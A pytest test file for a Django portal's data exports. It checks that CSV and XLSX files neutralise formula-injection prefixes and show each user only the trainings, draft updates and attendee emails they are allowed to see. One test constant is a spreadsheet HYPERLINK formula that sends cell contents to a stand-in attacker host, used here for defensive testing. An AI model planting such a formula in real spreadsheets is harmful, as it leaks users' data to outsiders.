"""Exports hold only what the exporting user may see, and no cell runs as a formula."""

from __future__ import annotations

import csv
import io
from typing import cast

import pytest
from django.contrib.admin.sites import site
from django.test import RequestFactory
from openpyxl import load_workbook

from core.imports import resource_class
from core.spreadsheets import SafeCSV, SafeXLSX, neutralise, write_csv, write_xlsx
from imports.services import export_file
from recommendations.choices import UpdateState
from recommendations.models import ProgressUpdate
from stakeholders.models import Institution
from tests import factories
from trainings.models import Training

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"click")'


def _xlsx_cells(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]  # formulas as written, not values
    return [[cell for cell in row] for row in sheet.iter_rows()]


def _csv_rows(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _assert_xlsx_neutral(content: bytes, marker: str) -> int:
    found = 0
    for row in _xlsx_cells(content):
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str) and marker in cell.value:
                assert cell.value.startswith("'"), cell.value
                found += 1
    return found


def _assert_csv_neutral(content: bytes, marker: str) -> int:
    found = 0
    for row in _csv_rows(content):
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")), value
            if marker in value:
                assert value.startswith("'"), value
                found += 1
    return found


@pytest.mark.parametrize("prefix", PREFIXES)
def test_every_formula_prefix_is_neutralised_in_portal_exports(client, demo, prefix) -> None:
    factories.InstitutionFactory(name_en=f"{prefix}{PAYLOAD}", short_name_en=f"{prefix}1+1")
    client.force_login(demo["demo-observer"])
    xlsx = client.get("/exports/institutions.xlsx")
    assert xlsx.status_code == 200
    assert xlsx["Content-Disposition"].startswith("attachment;")
    assert _assert_xlsx_neutral(xlsx.content, PAYLOAD) == 1
    for language in ("en", "mk"):
        client.post("/i18n/setlang/", {"language": language, "next": "/"})
        assert _assert_csv_neutral(client.get("/exports/institutions.csv").content, PAYLOAD) == 1


@pytest.mark.parametrize("prefix", PREFIXES)
def test_every_formula_prefix_is_neutralised_in_the_admin_export(demo, prefix) -> None:
    factories.InstitutionFactory(name_en=f"{prefix}{PAYLOAD}")
    request = RequestFactory().get("/admin/stakeholders/institution/export/")
    request.user = demo["demo-admin"]
    model_admin = site._registry[Institution]
    queryset = Institution.objects.all()
    xlsx = model_admin.get_export_data(SafeXLSX(), request, queryset)
    assert _assert_xlsx_neutral(xlsx, PAYLOAD) == 1
    data = model_admin.get_export_data(SafeCSV(), request, queryset)
    assert _assert_csv_neutral(data, PAYLOAD) == 1


@pytest.mark.parametrize("prefix", [*PREFIXES, "\x00"])
def test_every_formula_prefix_is_neutralised_in_code_paths(prefix) -> None:
    """The resource's dataset, whatever writes it, and the writers themselves."""
    value = f"{prefix}{PAYLOAD}"
    assert neutralise(value) == "'" + value
    assert neutralise(-5) == -5  # numbers are left as numbers
    assert _assert_xlsx_neutral(write_xlsx(["h"], [[value]], title="t"), PAYLOAD) == 1
    assert _assert_csv_neutral(write_csv(["h"], [[value]], delimiter=";"), PAYLOAD) == 1


def test_the_resource_dataset_itself_is_neutralised(demo) -> None:
    factories.InstitutionFactory(name_en=f"=1+{PAYLOAD}")
    dataset = resource_class("institutions")(user=demo["demo-observer"]).export()
    names = [row[1] for row in dataset]
    assert f"'=1+{PAYLOAD}" in names
    # tablib's own writers then carry no formula either.
    assert _assert_xlsx_neutral(dataset.export("xlsx"), PAYLOAD) == 1


def test_trainings_export_holds_only_the_trainings_the_user_sees(client, demo) -> None:
    cso_b_only = cast(
        Training,
        factories.TrainingFactory(
            title_en="Peer educators, CSO B only",
            organiser=Institution.objects.get(code="demo-cso-b"),
        ),
    )
    from trainings.services import training_share

    training_share(training=cso_b_only)
    for username, sees in (("demo-cso-a", False), ("demo-cso-b", True), ("demo-observer", True)):
        content = export_file(kind="trainings", fmt="csv", user=demo[username]).content
        titles = {row[0] for row in _csv_rows(content)[1:]}
        assert ("Peer educators, CSO B only" in titles) is sees, username
        from trainings.permissions import trainings_visible_to

        assert len(titles) == trainings_visible_to(demo[username]).count()


def test_progress_updates_export_keeps_drafts_to_their_institution(demo) -> None:
    draft = ProgressUpdate.objects.filter(
        state=UpdateState.DRAFT, institution__code="demo-cso-b"
    ).first() or factories.ProgressUpdateFactory(
        institution=Institution.objects.get(code="demo-cso-b"), state=UpdateState.DRAFT
    )
    draft = cast(ProgressUpdate, draft)
    draft.narrative = "A draft only CSO B and the team may read"
    draft.save()
    from recommendations.services import progress_update_share

    progress_update_share(update=draft)
    for username, sees in (
        ("demo-cso-a", False),
        ("demo-observer", False),
        ("demo-cso-b", True),
        ("demo-admin", True),
    ):
        content = export_file(kind="progress_updates", fmt="xlsx", user=demo[username]).content
        text = " ".join(str(c.value) for row in _xlsx_cells(content) for c in row)
        assert ("A draft only CSO B" in text) is sees, username


def test_attendance_export_shows_emails_only_to_those_who_may_change(client, demo) -> None:
    training = Training.objects.get(
        title_en="Recognising and referring child victims of trafficking"
    )
    headers = {}
    for username in ("demo-ministry", "demo-observer"):
        client.force_login(demo[username])
        response = client.get(f"/trainings/{training.pk}/attendance/export.csv")
        assert response.status_code == 200
        headers[username] = _csv_rows(response.content)[0]
        assert len(_csv_rows(response.content)) == 13
    assert "Email" in headers["demo-ministry"]
    assert "Email" not in headers["demo-observer"]
    client.force_login(demo["demo-cso-a"])
    assert client.get(f"/trainings/{training.pk}/attendance/export.xlsx").status_code == 404
    assert client.get(f"/trainings/{training.pk}/attendance/export.pdf").status_code == 404


def test_exports_use_the_readers_language_and_separator(client, demo) -> None:
    client.force_login(demo["demo-observer"])
    client.post("/i18n/setlang/", {"language": "mk", "next": "/"})
    content = client.get("/exports/institutions.csv").content
    assert content.startswith(b"\xef\xbb\xbf")
    header = content.decode("utf-8-sig").splitlines()[0]
    assert header.startswith("Код;Назив (англиски);")


def test_anonymous_exports_go_to_login(client, demo) -> None:
    for url in ("/exports/institutions.xlsx", "/exports/trainings.csv"):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")
    client.force_login(demo["demo-observer"])
    assert client.get("/exports/nothing.xlsx").status_code == 404
    assert client.get("/exports/attendance.xlsx").status_code == 404
